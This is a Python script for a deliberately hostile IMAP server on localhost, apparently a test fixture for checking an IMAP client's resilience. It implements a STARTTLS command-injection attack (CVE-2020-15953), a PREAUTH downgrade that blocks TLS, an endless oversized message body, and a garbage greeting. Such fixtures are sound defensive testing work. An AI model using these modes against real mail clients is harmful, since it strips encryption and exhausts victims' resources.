# SPDX-License-Identifier: ISC
"""A server of IMAP that wants to harm: imapd.py PORT LOG MODE. Every line that a client says is written to LOG.

	inject		STARTTLS, with an answer of its own behind the OK, in front of TLS (CVE-2020-15953)
	preauth		logged in already, in the clear, so that no STARTTLS is possible
	nostarttls	offers none
	huge		says that a mail is small, and sends without end
	rubbish		answers nothing that makes sense
"""
import socket
import sys

port, log, mode = int(sys.argv[1]), open(sys.argv[2], 'w'), sys.argv[3]
s = socket.socket()
s.setsockopt(socket.SOL_SOCKET, socket.SO_REUSEADDR, 1)
s.bind(('127.0.0.1', port))
s.listen()


def serve(c):
    f = c.makefile('rb')

    def say(text):
        c.sendall(text.encode())
    say('* PREAUTH welcome\r\n' if mode == 'preauth' else
        'x' * 100000 + '\r\n' if mode == 'rubbish' else '* OK ready\r\n')
    while True:
        line = f.readline()
        if not line:
            return
        log.write(line.decode('latin-1'))
        log.flush()
        tag, _, rest = line.decode('latin-1').strip().partition(' ')
        verb = rest.upper()
        if verb.startswith('CAPABILITY'):
            starttls = ' STARTTLS' if mode not in ('nostarttls', 'huge') else ''
            say(f'* CAPABILITY IMAP4rev1{starttls}\r\n{tag} OK\r\n')
        elif verb.startswith('STARTTLS'):
            say(f'{tag} OK begin\r\n' + (f'* CAPABILITY IMAP4rev1 AUTH=PLAIN\r\n* PREAUTH hello\r\n'
                                        if mode == 'inject' else ''))
            if mode == 'inject':
                rest = f.read()
                log.write(f'after STARTTLS: {len(rest)} bytes\n')
                log.flush()
                return
        elif verb.startswith('SELECT'):
            say(f'* 1 EXISTS\r\n* OK [UIDVALIDITY 1] ok\r\n{tag} OK\r\n')
        elif 'RFC822.SIZE' in verb:
            say(f'* 1 FETCH (UID 1 RFC822.SIZE 100)\r\n{tag} OK\r\n')
        elif 'BODY[]' in verb:
            say('* 1 FETCH (UID 1 BODY[] {4294967290}\r\n')
            while True:
                say('x' * 65536)
        else:
            say(f'{tag} OK\r\n')


while True:
    try:
        serve(s.accept()[0])
    except OSError:
        pass
